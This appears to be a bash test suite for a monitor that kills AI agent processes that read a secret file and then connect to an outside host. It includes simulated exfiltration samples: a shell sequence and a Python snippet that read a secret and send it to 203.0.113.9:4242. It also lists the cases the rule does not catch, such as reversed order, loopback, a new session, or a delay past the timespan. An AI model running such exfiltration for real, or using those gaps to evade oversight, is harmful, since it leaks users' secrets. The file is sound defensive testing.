#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# The main job: a member reads a secret, then a member connects outside, in any way that
# data can leave. It dies there, and nothing has left.

# shellcheck source=tests/live/lib.sh
. tests/live/lib.sh

# agent WAY [ADDRESS [WHO]]: the secret is read, then sent. Who only waits may see one more
# instruction before it is killed, but no act: the shell opens a file before it speaks.
agent() {
	# shellcheck disable=SC2016 # for the inner shell
	watch --agent thief -- sh -c 'cat "$1" & echo "cat is $!"; wait
		"$2" "$3" "$4" "$5" "$6"; n=$?; read -r line <"$1"; echo "survived with $n"' \
		sh "$place/secret" "$SUBJECTS/send" "$1" "${2-$outside}" "$port" "${3-self}"
}

# expect_stopped [RULE]: that agent was killed by this one alert, and nothing arrived.
expect_stopped() {
	expect_status 137
	[[ ! $(<"$place/stdout") =~ survived|done ]] || fail "the agent went on"
	expect_received 0 0
	expect_alert "${1-secret_then_outside}" '.fermata.response.done == "killed"'
	expect_alerts_in_all 1
}

test_read_then_connect() {
	local cat
	load_anew
	chain_rules
	receiver_start
	agent connect
	expect_stopped
	cat=$(sed -n 's/^cat is //p' "$place/stdout")
	expect_alert secret_then_outside \
		'.event.kind == "alert"' \
		'.process.name == "send" and (.process.executable | endswith("/send"))' \
		'.process.pid > 1 and .process.parent.pid > 1' \
		'.process.command_line | endswith("send connect 203.0.113.9 4242 self")' \
		'.gen_ai.agent.name == "thief" and (.gen_ai.agent.id | length) == 16' \
		'.user.id == "0" and .user.name == "root"' \
		'.event.action == "network_connection" and .event.outcome == "failure"' \
		'.destination.ip == "203.0.113.9" and .destination.port == 4242' \
		'.network.transport == "tcp"' \
		'.fermata.level == "critical"' \
		'.fermata.verdict == "killed" and .fermata.response.asked == "kill-agent"' \
		'.fermata.response.simulated == false and .fermata.response.condemned' \
		'.fermata.response.after_effect == false' \
		".fermata.response.tier == \"$(trampolines && echo "$TIER" || echo cgroup)\"" \
		'.fermata.evidence | length == 2' \
		'.fermata.evidence[0] | .step == "reads_secret" and .file.path == "'"$place"'/secret"' \
		".fermata.evidence[0].process | .pid == $cat and .name == \"cat\"" \
		'.fermata.evidence[0]["@timestamp"] < .["@timestamp"]' \
		'.event.reason | contains("send[") and contains("thief") and contains("203.0.113.9:4242")'
	expect_stderr "secret_then_outside (after cat[$cat] read $place/secret"
	same "readable lines" 1 "$(grep -c KILLED "$place/stderr")"
}

test_every_way_of_sending() {
	local way
	chain_rules
	receiver_start
	for way in sendto sendmsg sendmmsg connected fastopen; do
		step "$way"
		alerts_forget
		agent "$way"
		expect_stopped
	done
}

test_ipv6() {
	local way
	chain_rules
	receiver_start
	for way in connect sendto sendmmsg fastopen; do
		step "$way to a v4-mapped address"
		alerts_forget
		agent "$way" "::ffff:$outside"
		expect_stopped
		expect_alert secret_then_outside ".destination.ip == \"$outside\""
	done
	has_v6 || skip "this kernel has no IPv6 on lo"
	for way in connect sendto sendmsg sendmmsg fastopen; do
		step "$way to a v6 address"
		alerts_forget
		agent "$way" "$outside_v6"
		expect_stopped secret_then_outside_v6
		expect_alert secret_then_outside_v6 ".destination.ip == \"$outside_v6\""
	done
}

test_from_any_member() {
	local who
	chain_rules
	receiver_start
	for who in child grandchild thread; do
		step "$who"
		alerts_forget
		agent connect "$outside" "$who"
		expect_stopped
	done
}

test_python() {
	local python
	python=$(PATH=/usr/bin:/usr/local/bin:$PATH type -P python3) || skip "needs python3"
	chain_rules
	receiver_start
	watch -- "$python" -c '
import socket, sys
secret = open(sys.argv[1], "rb").read()
print("read", flush=True)
socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(secret)
print("done", flush=True)' "$place/secret" "$outside" "$port"
	expect_stdout read
	expect_stopped
}

test_deny_leaves_the_agent_alive() {
	chain_rules_of deny 5m
	receiver_start
	agent connect
	expect_status 0
	expect_stdout EPERM
	expect_stdout "survived with 1"
	expect_received 0 0
	expect_alert secret_then_outside '.fermata.verdict == "denied"'
}

# What must not fire. --------------------------------------------------------------------

expect_nothing() {
	expect_status 0
	check "nothing was told" [ ! -s "$alerts" ]
}

test_reverse_order_does_not_fire() {
	chain_rules
	receiver_start
	# shellcheck disable=SC2016 # for the inner shell
	watch -- sh -c '"$1" connect 203.0.113.9 4242 && cat "$2"' sh "$SUBJECTS/send" "$place/secret"
	expect_nothing
	expect_received 1 6
}

test_loopback_does_not_fire() {
	chain_rules
	receiver_start
	agent connect 127.0.0.1
	expect_nothing
	expect_received 1 6
}

test_another_session_starts_anew() {
	chain_rules
	receiver_start
	watch -- cat "$place/secret"
	expect_nothing
	watch -- "$SUBJECTS/send" connect "$outside" "$port"
	expect_nothing
	expect_received 1 6
}

test_after_the_timespan_it_does_not_fire() {
	chain_rules_of kill-agent 2s
	receiver_start
	# shellcheck disable=SC2016 # for the inner shell
	watch -- sh -c 'cat "$2"; sleep 2.5; "$1" connect 203.0.113.9 4242' \
		sh "$SUBJECTS/send" "$place/secret"
	expect_nothing
	expect_received 1 6
}
